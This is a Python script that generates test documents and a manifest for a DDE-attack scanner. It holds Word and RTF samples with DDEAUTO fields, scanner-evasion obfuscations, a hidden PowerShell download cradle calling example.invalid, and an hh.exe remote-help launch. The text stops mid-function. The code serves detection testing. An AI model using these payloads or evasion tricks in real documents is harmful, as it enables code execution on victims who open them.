#!/usr/bin/env python3
"""Write ddescan's harmless sample corpus and its manifest, byte for byte the same every run.

    python corpus/generate.py [--out DIR] [--manifest PATH]

Each sample is built from the rules of its file format (ECMA-376 Part 1 17.16 fields and
Part 2 packaging, [MS-XLSX]/SpreadsheetML, RTF 1.9.1, RFC 4180 CSV, SYLK) and from what
published DDE campaigns did, never from ddescan's own parsers: the corpus is the
independent check of those parsers. Payloads are harmless by construction: they start
calc.exe, notepad.exe or whoami, or name hosts under example.invalid / 203.0.113.0/24.
Nothing here is ever executed.

Determinism: ZIP members carry the 1980-01-01 timestamp, a fixed order and fixed
attributes; python-docx and openpyxl output is re-packed with its core-properties dates
(and openpyxl's version string) pinned; nothing is random.
"""

from __future__ import annotations

import argparse
import base64
import datetime
import hashlib
import io
import itertools
import json
import re
import struct
import sys
import zipfile
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass
from pathlib import Path
from unittest import mock
from xml.sax.saxutils import escape, quoteattr

import docx
import openpyxl
from docx.oxml import parse_xml
from msoffcrypto.method import ecma376_agile
from msoffcrypto.method.container.ecma376_encrypted import DefaultContent
from openpyxl.formatting.rule import FormulaRule
from openpyxl.styles import Font
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.formula import ArrayFormula

# The legacy-format writers sit next to this script (the tests import them too).
sys.path.insert(0, str(Path(__file__).resolve().parent))
import docwriter
import equationwriter
import mailwriter
import xlswriter
from cfbwriter import write_cfb
from olewriter import ole1_embedded, packager_native, rtf_objdata_rows

HERE = Path(__file__).resolve().parent
SAMPLES_DIR = HERE / "samples"
MANIFEST_PATH = HERE / "manifest.json"
GROUPS = (
    "allowed",
    "bad",
    "clean",
    "csv",
    "doc",
    "encrypted",
    "equation",
    "embedded",
    "excel",
    "html",
    "mail",
    "odf",
    "rtf",
    "word",
    "xls",
    "xml",
)
MANIFEST_VERSION = 1

ZIP_EPOCH = (1980, 1, 1, 0, 0, 0)
FIXED_DATE = "1980-01-01T00:00:00Z"

WORD = "WINWORD.EXE"
EXCEL = "EXCEL.EXE"
FIELD = "dde-field"
FORMULA = "dde-formula"
LINK = "dde-link"


@dataclass(frozen=True)
class Hit:
    """One finding the scanner must report (matched by every field that is set)."""

    technique: str
    image: str
    command_line_contains: str
    parent: str
    location_contains: str = ""
    command_line: str | None = None
    is_office_spawn: bool | None = None
    suspicious_args: bool | None = None
    allowed: bool | None = None

    def to_json(self) -> dict[str, object]:
        out: dict[str, object] = {
            "technique": self.technique,
            "image": self.image,
            "command_line_contains": self.command_line_contains,
            "parent": self.parent,
        }
        if self.location_contains:
            out["location_contains"] = self.location_contains
        if self.command_line is not None:
            out["command_line"] = self.command_line
        kql = {
            name: value
            for name, value in (
                ("is_office_spawn", self.is_office_spawn),
                ("suspicious_args", self.suspicious_args),
            )
            if value is not None
        }
        if kql:
            out["kql"] = kql
        if self.allowed is not None:
            out["allowed"] = self.allowed
        return out


@dataclass(frozen=True)
class Expect:
    """What scanning a sample must give.

    `problems` is the exact multiset of problem kinds (empty: no problem at all);
    `finding_count` is set only where the number of findings is certain.
    """

    verdict: str
    findings: tuple[Hit, ...] = ()
    finding_count: int | None = None
    problems: tuple[str, ...] = ()

    def to_json(self) -> dict[str, object]:
        out: dict[str, object] = {
            "verdict": self.verdict,
            "findings": [hit.to_json() for hit in self.findings],
            "problems": list(self.problems),
        }
        if self.finding_count is not None:
            out["finding_count"] = self.finding_count
        return out


@dataclass(frozen=True)
class Allowed:
    """The same sample scanned with some DDE services allowed."""

    services: tuple[str, ...]
    expect: Expect

    def to_json(self) -> dict[str, object]:
        return {"services": list(self.services), "expect": self.expect.to_json()}


@dataclass(frozen=True)
class Sample:
    path: str
    data: bytes
    description: str
    technique_tested: str
    expect: Expect
    allowed_services: Allowed | None = None

    def to_json(self) -> dict[str, object]:
        out: dict[str, object] = {
            "path": self.path,
            "description": self.description,
            "technique_tested": self.technique_tested,
            "expect": self.expect.to_json(),
        }
        if self.allowed_services is not None:
            out["allowed_services"] = self.allowed_services.to_json()
        return out


def one(hit: Hit, verdict: str = "malicious") -> Expect:
    return Expect(verdict=verdict, findings=(hit,), finding_count=1)


CLEAN = Expect(verdict="clean", finding_count=0)


def zip_members(members: Iterable[tuple[str, bytes]]) -> bytes:
    """A ZIP with fixed timestamps, attributes and the given member order."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=ZIP_EPOCH)
            info.compress_type = zipfile.ZIP_DEFLATED
            info.create_system = 0
            info.external_attr = 0
            archive.writestr(info, data, compresslevel=6)
    return buffer.getvalue()


_CORE_DATE = re.compile(rb"(<dcterms:(?:created|modified)\b[^>]*>)[^<]*(</dcterms:)")
_OPENPYXL_VERSION = re.compile(rb"(Openpyxl)[ 0-9.]*")
_APP_VERSION = re.compile(rb"<AppVersion>[^<]*</AppVersion>")


def _member_order(name: str) -> tuple[int, str]:
    return ({"[Content_Types].xml": 0, "_rels/.rels": 1}.get(name, 2), name)


def normalise_package(data: bytes) -> bytes:
    """Re-pack a library-written package: pinned dates and versions, sorted members."""
    with zipfile.ZipFile(io.BytesIO(data)) as source:
        members = {info.filename: source.read(info) for info in source.infolist()}
    if "docProps/core.xml" in members:
        members["docProps/core.xml"] = _CORE_DATE.sub(
            rb"\g<1>" + FIXED_DATE.encode() + rb"\g<2>", members["docProps/core.xml"]
        )
    if "docProps/app.xml" in members:
        app = _OPENPYXL_VERSION.sub(rb"\g<1>", members["docProps/app.xml"])
        members["docProps/app.xml"] = _APP_VERSION.sub(b"<AppVersion>3.1</AppVersion>", app)
    return zip_members((name, members[name]) for name in sorted(members, key=_member_order))


# ISO/IEC 29500 Strict renames the transitional namespaces (ISO/IEC 29500-1, Annex A); the
# OPC namespaces of Part 2 (content types, package relationships) stay as they are.
STRICT_NAMESPACES = (
    (
        b"http://schemas.openxmlformats.org/wordprocessingml/2006/main",
        b"http://purl.oclc.org/ooxml/wordprocessingml/main",
    ),
    (
        b"http://schemas.openxmlformats.org/spreadsheetml/2006/main",
        b"http://purl.oclc.org/ooxml/spreadsheetml/main",
    ),
    (
        b"http://schemas.openxmlformats.org/officeDocument/2006/relationships",
        b"http://purl.oclc.org/ooxml/officeDocument/relationships",
    ),
    (b"<w:document ", b'<w:document w:conformance="strict" '),
    (b"<workbook ", b'<workbook conformance="strict" '),
)


def strict_package(data: bytes) -> bytes:
    """The same package written with ISO/IEC 29500 Strict namespaces."""
    with zipfile.ZipFile(io.BytesIO(data)) as source:
        members = [(info.filename, source.read(info)) for info in source.infolist()]
    converted = []
    for name, content in members:
        for old, new in STRICT_NAMESPACES:
            content = content.replace(old, new)
        converted.append((name, content))
    return zip_members(converted)


REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
REL_CORE = "http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties"
XML_DECL = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'


@dataclass(frozen=True)
class Rel:
    id: str
    type: str
    target: str


@dataclass(frozen=True)
class Part:
    name: str
    content_type: str
    data: bytes
    rels: tuple[Rel, ...] = ()


def _rels_xml(rels: Sequence[Rel]) -> bytes:
    body = "".join(
        f"<Relationship Id={quoteattr(rel.id)} "
        f"Type={quoteattr(rel.type if '/' in rel.type else REL + rel.type)} "
        f"Target={quoteattr(rel.target)}/>"
        for rel in rels
    )
    return (
        XML_DECL + '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        f'relationships">{body}</Relationships>'
    ).encode()


def _rels_name(part: str) -> str:
    folder, _, base = part.rpartition("/")
    return f"{folder}/_rels/{base}.rels" if folder else f"_rels/{base}.rels"


def opc_package(parts: Sequence[Part]) -> bytes:
    """An OPC package whose first part is the main document (package officeDocument rel)."""
    overrides = "".join(
        f"<Override PartName={quoteattr('/' + part.name)} "
        f"ContentType={quoteattr(part.content_type)}/>"
        for part in parts
    )
    content_types = (
        XML_DECL + '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f"{overrides}</Types>"
    ).encode()
    members: list[tuple[str, bytes]] = [
        ("[Content_Types].xml", content_types),
        ("_rels/.rels", _rels_xml([Rel("rId1", "officeDocument", parts[0].name)])),
    ]
    for part in parts:
        members.append((part.name, part.data))
        if part.rels:
            members.append((_rels_name(part.name), _rels_xml(part.rels)))
    return zip_members(members)


CT_DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
CT_DOCM = "application/vnd.ms-word.document.macroEnabled.main+xml"
CT_DOTX = "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"
CT_DOTM = "application/vnd.ms-word.template.macroEnabledTemplate.main+xml"
CT_WML = "application/vnd.openxmlformats-officedocument.wordprocessingml."

W_NS = (
    'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
    'xmlns:v="urn:schemas-microsoft-com:vml" '
    'xmlns:o="urn:schemas-microsoft-com:office:office"'
)

# The canonical field of the October 2017 DDE write-ups: inside a field argument a literal
# backslash is written doubled (ECMA-376 Part 1, 17.16.1), so Word hands
# c:\windows\system32\cmd.exe to the loader.
CMD_ARGS = r'c:\\windows\\system32\\cmd.exe "/k calc.exe"'
CMD_FIELD = "DDEAUTO " + CMD_ARGS
CMD_LINE = r"c:\windows\system32\cmd.exe /k calc.exe"


def instr(text: str) -> str:
    return f'<w:r><w:instrText xml:space="preserve">{escape(text)}</w:instrText></w:r>'


def text_run(text: str) -> str:
    return f'<w:r><w:t xml:space="preserve">{escape(text)}</w:t></w:r>'


def fld_char(kind: str, dirty: bool = False) -> str:
    flag = ' w:dirty="true"' if dirty else ""
    return f'<w:r><w:fldChar w:fldCharType="{kind}"{flag}/></w:r>'


def field(*inner: str, result: str | None = None, dirty: bool = False) -> str:
    """A complex field: begin, instruction runs (already XML), [separate, result], end."""
    xml = fld_char("begin", dirty) + "".join(inner)
    if result is not None:
        xml += fld_char("separate") + text_run(result)
    return xml + fld_char("end")


def para(*inner: str) -> str:
    return "<w:p>" + "".join(inner) + "</w:p>"


def word_part(root: str, body: str) -> bytes:
    return f"{XML_DECL}<w:{root} {W_NS}>{body}</w:{root}>".encode()


def document_xml(body: str, sect: str = "") -> bytes:
    return word_part("document", f"<w:body>{body}<w:sectPr>{sect}</w:sectPr></w:body>")


def utf16_header_package(field_xml: str) -> bytes:
    """A Word package whose header part is UTF-16 LE with a byte order mark, as Part 2 of
    ECMA-376 (Open Packaging Conventions, 8.1.4) allows for any XML part."""
    header = (
        '<?xml version="1.0" encoding="UTF-16" standalone="yes"?>\n'
        f"<w:hdr {W_NS}>{para(field_xml)}</w:hdr>"
    ).encode("utf-16")
    return word_package(
        lure(),
        sect='<w:headerReference w:type="default" r:id="rId1"/>',
        parts=[Part("word/header1.xml", f"{CT_WML}header+xml", header)],
        rels=[Rel("rId1", "header", "header1.xml")],
    )


def word_package(
    body: str,
    main_type: str = CT_DOCX,
    sect: str = "",
    parts: Sequence[Part] = (),
    rels: Sequence[Rel] = (),
) -> bytes:
    main = Part("word/document.xml", main_type, document_xml(body, sect), tuple(rels))
    return opc_package([main, *parts])


def lure(text: str = "Please enable editing and update the links to view this invoice.") -> str:
    return para(text_run(text))


def word_hit(
    command: str = CMD_LINE,
    image: str = "cmd.exe",
    part: str = "word/document.xml",
    spawn: bool = True,
    args: bool = False,
) -> Hit:
    return Hit(
        technique=FIELD,
        image=image,
        command_line_contains=command,
        parent=WORD,
        location_contains=part,
        is_office_spawn=spawn,
        suspicious_args=args,
    )


def python_docx_package(build: Callable[[docx.document.Document], None]) -> bytes:
    document = docx.Document()
    build(document)
    buffer = io.BytesIO()
    document.save(buffer)
    return normalise_package(buffer.getvalue())


def _append_xml(paragraph: object, xml: str) -> None:
    """Append raw WordprocessingML runs to a python-docx paragraph."""
    wrapper = parse_xml(f"<w:p {W_NS}>{xml}</w:p>")
    target = paragraph._p  # type: ignore[attr-defined]
    for child in list(wrapper):
        target.append(child)


def _wrapped(open_tag: str, close_tag: str) -> str:
    """Split CMD_FIELD so that its application path sits inside a wrapper element."""
    return field(
        instr(" DDEAUTO "),
        open_tag + instr(r"c:\\windows\\system32\\cmd.exe ") + close_tag,
        instr('"/k calc.exe" '),
        result="Loading content...",
    )


WRAPPERS: tuple[tuple[str, str, str, str], ...] = (
    (
        "ins",
        '<w:ins w:id="1" w:author="Accounts" w:date="2017-10-10T00:00:00Z">',
        "</w:ins>",
        "tracked insertion (w:ins, 17.13.5.18)",
    ),
    (
        "sdt",
        '<w:sdt><w:sdtPr><w:id w:val="7"/></w:sdtPr><w:sdtContent>',
        "</w:sdtContent></w:sdt>",
        "run-level content control (w:sdt/w:sdtContent, 17.5.2)",
    ),
    (
        "hyperlink",
        '<w:hyperlink w:anchor="top">',
        "</w:hyperlink>",
        "hyperlink container (w:hyperlink, 17.16.22)",
    ),
    (
        "smarttag",
        '<w:smartTag w:uri="urn:schemas-microsoft-com:office:smarttags" w:element="place">',
        "</w:smartTag>",
        "smart tag (w:smartTag, 17.5.1.9)",
    ),
    (
        "customxml",
        '<w:customXml w:uri="urn:example.invalid:invoice" w:element="total">',
        "</w:customXml>",
        "inline custom XML element (w:customXml, 17.5.1.3)",
    ),
    (
        "moveto",
        '<w:moveToRangeStart w:id="3" w:author="Accounts" w:name="move1"/>'
        '<w:moveTo w:id="4" w:author="Accounts">',
        '</w:moveTo><w:moveToRangeEnd w:id="3"/>',
        "move destination revision (w:moveTo, 17.13.5.25)",
    ),
)


def quote_codes(text: str) -> str:
    return " ".join(str(ord(char)) for char in text)


def word_samples() -> list[Sample]:
    samples: list[Sample] = []

    def add(name: str, data: bytes, description: str, technique: str, expect: Expect) -> None:
        samples.append(Sample(f"word/{name}", data, description, technique, expect))

    def basic(document: docx.document.Document) -> None:
        document.add_paragraph("Invoice 2017-1142")
        paragraph = document.add_paragraph()
        _append_xml(paragraph, field(instr(f" {CMD_FIELD} "), result="Loading invoice..."))

    add(
        "ddeauto-cmd.docx",
        python_docx_package(basic),
        "DDEAUTO field starting cmd.exe by full path, backslashes doubled as field syntax "
        "requires, the shape of the October 2017 proof of concept and campaigns.",
        "DDEAUTO field (complex field, w:instrText)",
        one(Hit(FIELD, "cmd.exe", CMD_LINE, WORD, "word/document.xml", CMD_LINE, True, False)),
    )

    def plain(document: docx.document.Document) -> None:
        document.add_paragraph("Quarterly figures")
        paragraph = document.add_paragraph()
        command = r'DDE c:\\windows\\system32\\cmd.exe "/c notepad.exe" '
        _append_xml(paragraph, field(instr(command), result="Figures"))

    add(
        "dde-plain.docx",
        python_docx_package(plain),
        "Plain DDE field (runs when the user updates fields) starting cmd.exe with notepad.",
        "DDE field (manual update)",
        one(word_hit(r"c:\windows\system32\cmd.exe /c notepad.exe")),
    )
    add(
        "ddeauto-mixed-case.docx",
        word_package(lure() + para(field(instr(f" dDeAuTo {CMD_ARGS} ")))),
        "Field keyword written dDeAuTo: Word matches field keywords case-insensitively.",
        "keyword case obfuscation",
        one(word_hit()),
    )
    add(
        "ddeauto-one-char-per-run.docx",
        word_package(
            lure() + para(field(*(instr(char) for char in f" {CMD_FIELD} "), result="Loading..."))
        ),
        "The whole instruction split one character per w:r/w:instrText, as Word itself does "
        "after editing; a scanner that reads one run at a time sees no keyword.",
        "instruction split across runs",
        one(word_hit()),
    )
    for short, open_tag, close_tag, what in WRAPPERS:
        add(
            f"ddeauto-in-{short}.docx",
            word_package(lure() + para(_wrapped(open_tag, close_tag))),
            f"DDEAUTO whose application path run sits inside a {what}; the field's "
            "begin, rest of instruction and end sit outside it.",
            f"field runs inside w:{short}",
            one(word_hit()),
        )
    add(
        "ddeauto-across-paragraphs.docx",
        word_package(
            lure()
            + para(fld_char("begin"), instr(r" DDEAUTO c:\\windows\\system32\\cmd.exe "))
            + para(instr('"/k calc.exe" '), fld_char("separate"), text_run("x"))
            + para(fld_char("end"))
        ),
        "One complex field whose begin, instruction pieces and end sit in three paragraphs "
        "(a complex field may span paragraphs, 17.16.18).",
        "field spanning paragraphs",
        one(word_hit()),
    )
    add(
        "ddeauto-quote-codes.docx",
        word_package(
            lure()
            + para(
                field(
                    instr(" DDEAUTO "),
                    field(instr(" QUOTE 99 109 100 ")),
                    instr(' "/c calc.exe" '),
                    result="Loading...",
                )
            )
        ),
        "DDEAUTO whose application is a nested { QUOTE 99 109 100 } field: character codes "
        "that Word evaluates to 'cmd' before starting the conversation.",
        "nested QUOTE character codes",
        one(word_hit("cmd /c calc.exe")),
    )
    codes = quote_codes(r"c:\windows\system32\cmd.exe")
    pieces = [codes[i : i + 7] for i in range(0, len(codes), 7)]
    add(
        "ddeauto-quote-codes-split.docx",
        word_package(
            lure()
            + para(
                field(
                    instr(" DDEAU"),
                    instr("TO "),
                    field(instr(" QUO"), instr("TE "), *(instr(p) for p in pieces), result="a"),
                    instr(' "/k calc.exe"'),
                    result="Loading...",
                )
            )
        ),
        "Nested QUOTE spelling c:\\windows\\system32\\cmd.exe in character codes, the codes "
        "split over runs every seven characters; the nested field's cached result is a decoy "
        "('a'), because Word re-evaluates nested fields instead of trusting the cache.",
        "QUOTE codes split across runs, decoy cached result",
        one(word_hit()),
    )
    add(
        "ddeauto-set-ref.docx",
        word_package(
            lure()
            + para(field(instr(r' SET cmdvar "c:\\windows\\system32\\cmd.exe" ')))
            + para(
                field(
                    instr(" DDEAUTO "),
                    field(instr(" REF cmdvar ")),
                    instr(' "/c calc.exe" '),
                    result="Loading...",
                )
            )
        ),
        "SET stores the cmd.exe path in a bookmark, then DDEAUTO takes its application from "
        "a nested { REF cmdvar } field.",
        "SET/REF indirection",
        one(word_hit(r"c:\windows\system32\cmd.exe /c calc.exe")),
    )
    add(
        "ddeauto-if-nested.docx",
        word_package(
            lure()
            + para(
                field(
                    instr(" DDEAUTO "),
                    field(instr(r' IF 1 = 1 "c:\\windows\\system32\\cmd.exe" "x" ')),
                    instr(' "/k calc.exe" '),
                    result="Loading...",
                )
            )
        ),
        'DDEAUTO whose application comes from a nested { IF 1 = 1 "...cmd.exe" "x" } '
        "field: the condition is always true, so Word substitutes the cmd.exe path.",
        "nested IF indirection",
        one(word_hit()),
    )
    add(
        "dde-fldsimple.docx",
        word_package(
            lure()
            + para(
                f"<w:fldSimple w:instr={quoteattr(' DDE ' + CMD_ARGS + ' ')}>"
                + text_run("Figures")
                + "</w:fldSimple>"
            )
        ),
        "DDE as a simple field: the whole instruction in the w:instr attribute (17.16.19).",
        "w:fldSimple",
        one(word_hit()),
    )

    def in_header(document: docx.document.Document) -> None:
        document.add_paragraph("Body text without fields.")
        header = document.sections[0].header.paragraphs[0]
        _append_xml(header, field(instr(f" {CMD_FIELD} "), result="Header"))

    def in_footer(document: docx.document.Document) -> None:
        document.add_paragraph("Body text without fields.")
        footer = document.sections[0].footer.paragraphs[0]
        _append_xml(footer, field(instr(f" {CMD_FIELD} "), result="Footer"))

    add(
        "ddeauto-in-header.docx",
        python_docx_package(in_header),
        "DDEAUTO in the default header part; the body is clean.",
        "field in header part",
        one(word_hit(part="word/header1.xml")),
    )
    add(
        "ddeauto-in-footer.docx",
        python_docx_package(in_footer),
        "DDEAUTO in the default footer part; the body is clean.",
        "field in footer part",
        one(word_hit(part="word/footer1.xml")),
    )
    add(
        "ddeauto-utf16-header.docx",
        utf16_header_package(field(instr(f" {CMD_FIELD} "), result="Header")),
        "DDEAUTO in a header part encoded as UTF-16 LE with a byte order mark (Open Packaging "
        "Conventions allow UTF-8 or UTF-16 XML parts); a byte search for UTF-8 marks misses it.",
        "field in a UTF-16 header part",
        one(word_hit(part="word/header1.xml")),
    )
    payload = para(field(instr(f" {CMD_FIELD} "), result="x"))
    separators = (
        '<w:{0} w:type="separator" w:id="-1"><w:p><w:r><w:separator/></w:r></w:p></w:{0}>'
        '<w:{0} w:type="continuationSeparator" w:id="0"><w:p><w:r><w:continuationSeparator/>'
        "</w:r></w:p></w:{0}>"
    )
    for kind in ("footnote", "endnote"):
        add(
            f"ddeauto-in-{kind}.docx",
            word_package(
                para(text_run("See note."), f'<w:r><w:{kind}Reference w:id="1"/></w:r>'),
                parts=[
                    Part(
                        f"word/{kind}s.xml",
                        f"{CT_WML}{kind}s+xml",
                        word_part(
                            f"{kind}s",
                            separators.format(kind) + f'<w:{kind} w:id="1">{payload}</w:{kind}>',
                        ),
                    )
                ],
                rels=[Rel("rId1", f"{kind}s", f"{kind}s.xml")],
            ),
            f"DDEAUTO inside {kind} 1 of word/{kind}s.xml; the body only references the note.",
            f"field in {kind}s part",
            one(word_hit(part=f"word/{kind}s.xml")),
        )
    add(
        "ddeauto-in-comment.docx",
        word_package(
            para(
                '<w:commentRangeStart w:id="0"/>',
                text_run("Approved."),
                '<w:commentRangeEnd w:id="0"/>',
                '<w:r><w:commentReference w:id="0"/></w:r>',
            ),
            parts=[
                Part(
                    "word/comments.xml",
                    f"{CT_WML}comments+xml",
                    word_part(
                        "comments",
                        f'<w:comment w:id="0" w:author="Accounts" w:initials="A">{payload}'
                        "</w:comment>",
                    ),
                )
            ],
            rels=[Rel("rId1", "comments", "comments.xml")],
        ),
        "DDEAUTO inside a review comment (word/comments.xml).",
        "field in comments part",
        one(word_hit(part="word/comments.xml")),
    )
    add(
        "ddeauto-in-textbox.docx",
        word_package(
            lure()
            + para(
                '<w:r><w:pict><v:shape id="box1" type="#_x0000_t202" '
                'style="width:200pt;height:40pt"><v:textbox><w:txbxContent>'
                + payload
                + "</w:txbxContent></v:textbox></v:shape></w:pict></w:r>"
            )
        ),
        "DDEAUTO inside a VML text box (w:txbxContent) in the main document.",
        "field in text box",
        one(word_hit()),
    )
    add(
        "ddeauto-in-glossary.docx",
        word_package(
            lure(),
            parts=[
                Part(
                    "word/glossary/document.xml",
                    f"{CT_WML}document.glossary+xml",
                    word_part(
                        "glossaryDocument",
                        '<w:docParts><w:docPart><w:docPartPr><w:name w:val="Invoice"/>'
                        '<w:category><w:name w:val="General"/><w:gallery w:val="autoTxt"/>'
                        "</w:category></w:docPartPr><w:docPartBody>"
                        + payload
                        + "</w:docPartBody></w:docPart></w:docParts>",
                    ),
                )
            ],
            rels=[Rel("rId1", "glossaryDocument", "glossary/document.xml")],
        ),
        "DDEAUTO inside a building block of the glossary document (word/glossary/document.xml, "
        "17.2.2), which most scanners never open.",
        "field in glossary document",
        one(word_hit(part="word/glossary/document.xml")),
    )
    rtf_chunk = (
        r"{\rtf1\ansi\deff0{\fonttbl{\f0 Calibri;}}\pard "
        r'{\field{\*\fldinst DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"}'
        r"{\fldrslt Loading...}}\par}"
    ).encode("ascii")
    add(
        "altchunk-rtf-ddeauto.docx",
        word_package(
            lure() + '<w:altChunk r:id="rId1"/>',
            parts=[Part("word/afchunk.rtf", "application/rtf", rtf_chunk)],
            rels=[Rel("rId1", "aFChunk", "afchunk.rtf")],
        ),
        "w:altChunk (17.17.2.1) importing an RTF part that holds the DDEAUTO field; Word "
        "merges the RTF into the document when it opens it.",
        "altChunk RTF import",
        one(word_hit(part="word/afchunk.rtf")),
    )
    html_chunk = (
        "<html xmlns:o='urn:schemas-microsoft-com:office:office' "
        "xmlns:w='urn:schemas-microsoft-com:office:word'>"
        "<head><meta http-equiv=Content-Type content='text/html; charset=utf-8'></head>"
        "<body><p class=MsoNormal><!--[if supportFields]><span "
        "style='mso-element:field-begin'></span>" + escape(CMD_FIELD) + "<span "
        "style='mso-element:field-separator'></span><![endif]--><span>Loading...</span>"
        "<!--[if supportFields]><span style='mso-element:field-end'></span><![endif]-->"
        "</p></body></html>"
    ).encode("ascii")
    add(
        "altchunk-html-ddeauto.docx",
        word_package(
            lure() + '<w:altChunk r:id="rId1"/>',
            parts=[Part("word/afchunk.htm", "text/html", html_chunk)],
            rels=[Rel("rId1", "aFChunk", "afchunk.htm")],
        ),
        "w:altChunk importing HTML in which the DDEAUTO field is written the way Word saves "
        "fields to HTML (Office HTML and XML Reference, 'Fields'): spans with "
        "mso-element:field-begin / field-separator / field-end inside <!--[if supportFields]> "
        "conditional comments, the instruction text between them.",
        "altChunk HTML import (mso-element field spans)",
        one(word_hit(part="word/afchunk.htm")),
    )
    switched = r'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" \d \a \* MERGEFORMAT'
    add(
        "ddeauto-switches.docx",
        word_package(lure() + para(field(instr(f" {switched} "), result="Loading..."))),
        "DDEAUTO followed by field switches (\\d, \\a and the general \\* MERGEFORMAT); the "
        "switches are field syntax and must not end up in the command line.",
        "field switches",
        one(Hit(FIELD, "cmd.exe", CMD_LINE, WORD, "word/document.xml", CMD_LINE, True, False)),
    )
    cradle = (
        r"C:\\Programs\\Microsoft\\Office\\MSWord\\..\\..\\..\\..\\windows\\system32\\"
        r"WindowsPowerShell\\v1.0\\powershell.exe -NoP -sta -NonI -W Hidden IEX "
        r"(New-Object System.Net.WebClient).DownloadString('http://example.invalid/a.ps1'); # "
    )
    add(
        "ddeauto-powershell-cradle.docx",
        word_package(
            lure()
            + para(
                field(
                    instr(f' DDEAUTO "{cradle}" "Microsoft Document.docx" '),
                    result="Microsoft Document",
                )
            )
        ),
        "The October 2017 campaign shape: a quoted application path that climbs out of an "
        "Office folder to PowerShell and carries a WebClient download cradle (here to "
        "example.invalid), then a decoy topic 'Microsoft Document.docx'.",
        "PowerShell download cradle with path traversal",
        one(
            word_hit(
                "powershell.exe -NoP -sta -NonI -W Hidden IEX (New-Object "
                "System.Net.WebClient).DownloadString('http://example.invalid/a.ps1');",
                image="powershell.exe",
                args=True,
            )
        ),
    )
    add(
        "ddeauto-calc-direct.docx",
        word_package(
            lure() + para(field(instr(r' DDEAUTO c:\\windows\\system32\\calc.exe "" '), result="x"))
        ),
        "DDEAUTO starting calc.exe directly: the runtime rule stays silent (calc.exe is not "
        "in its child list), a coverage gap the static scan must still report.",
        "direct program start outside the runtime rule's list",
        one(word_hit(r"c:\windows\system32\calc.exe", image="calc.exe", spawn=False)),
    )
    add(
        "ddeauto-hh.docx",
        word_package(
            lure()
            + para(
                field(
                    instr(r' DDEAUTO c:\\windows\\hh.exe "http://example.invalid/help.chm" '),
                    result="Help",
                )
            )
        ),
        "DDEAUTO starting hh.exe (HTML Help, a LOLBin missing from the runtime rule's "
        "child list) with a remote .chm on example.invalid.",
        "LOLBin outside the runtime rule's list",
        one(
            word_hit(
                r"c:\windows\hh.exe http://example.invalid/help.chm",
                image="hh.exe",
                spawn=False,
                args=True,
            )
        ),
    )
    add(
        "dde-dirty.docx",
        word_package(
            lure() + para(field(instr(f" DDE {CMD_ARGS} "), result="Figures", dirty=True))
        ),
        'Plain DDE field marked w:dirty="true" so Word updates it when the document opens.',
        "w:dirty field",
        one(word_hit()),
    )
    add(
        "ddeauto-strict.docx",
        strict_package(word_package(lure() + para(field(instr(f" {CMD_FIELD} "), result="x")))),
        "DDEAUTO in an ISO/IEC 29500 Strict document: the WordprocessingML and relationship "
        "namespaces are the purl.oclc.org ones, not the transitional ones.",
        "Strict conformance namespaces",
        one(word_hit()),
    )
    for ext, main_type, keyword in (
        ("docm", CT_DOCM, "DDEAUTO"),
        ("dotx", CT_DOTX, "DDE"),
        ("dotm", CT_DOTM, "DDEAUTO"),
    ):
        stem = "dde" if keyword == "DDE" else "ddeauto"
        add(
            f"{stem}-cmd.{ext}",
            word_package(
                lure() + para(field(instr(f" {keyword} {CMD_ARGS} "), result="x")),
                main_type=main_type,
            ),
            f"{keyword} field in a .{ext} package, identified by its main part content type "
            f"{main_type}.",
            f"Word .{ext} content type",
            one(word_hit()),
        )
    return samples


RTF_HEAD = r"{\rtf1\ansi\ansicpg1252\deff0{\fonttbl{\f0\fswiss Calibri;}}"
RTF_CMD = r'c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'


def rtf_field(instruction: str, result: str = "") -> str:
    return r"{\field{\*\fldinst " + instruction + r"}{\fldrslt " + result + "}}"


def rtf(body: str, head: str = RTF_HEAD) -> bytes:
    return (head + body + "}").encode("ascii")


def rtf_hit(command: str = CMD_LINE, location: str = "") -> Hit:
    return Hit(FIELD, "cmd.exe", command, WORD, location, None, True, False)


def rtf_samples() -> list[Sample]:
    body = r"\pard Invoice 2017-1142\par "
    items: list[tuple[str, bytes, str, str, Expect]] = [
        (
            "ddeauto-cmd.rtf",
            rtf(body + rtf_field("DDEAUTO " + RTF_CMD, "Loading...") + r"\par "),
            "DDEAUTO field in RTF: each backslash is escaped for RTF (\\\\) on top of the "
            "field's own doubling, so the RTF text carries four.",
            "RTF \\field DDEAUTO",
            one(rtf_hit()),
        ),
        (
            "ddeauto-hex-escapes.rtf",
            rtf(body + rtf_field(r"\'44\'44\'45AUTO " + RTF_CMD) + r"\par "),
            "Keyword written as \\'44\\'44\\'45AUTO: hex escapes of 'DDE' in the ANSI code page.",
            "RTF \\'hh escapes in the keyword",
            one(rtf_hit()),
        ),
        (
            "ddeauto-unicode-escapes.rtf",
            rtf(body + rtf_field(r"\u68?\u68?\u69?AUTO " + RTF_CMD) + r"\par "),
            "Keyword written as \\u68?\\u68?\\u69?AUTO: Unicode escapes, each followed by its "
            "one-character fallback (\\uc1) that a reader must skip.",
            "RTF \\uN escapes in the keyword",
            one(rtf_hit()),
        ),
        (
            "ddeauto-split-groups.rtf",
            rtf(
                body
                + rtf_field(
                    r"{\b D}{\i D}{\ul E}{\cf0 AUTO} {\f0 c:\\\\windows}\\\\{\b0 system32}"
                    r'\\\\{\i0 cmd.exe} {\lang1033 "/k }calc.exe"'
                )
